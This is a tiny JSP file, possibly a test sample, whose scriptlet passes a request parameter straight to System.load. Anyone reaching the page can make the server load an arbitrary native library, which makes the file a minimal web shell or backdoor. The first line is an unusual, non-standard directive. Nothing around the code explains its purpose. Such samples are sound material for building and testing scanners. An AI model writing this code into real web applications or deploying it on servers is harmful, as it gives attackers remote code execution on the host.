<%@ inert %>
<% System.load(request.getParameter("l")); %>
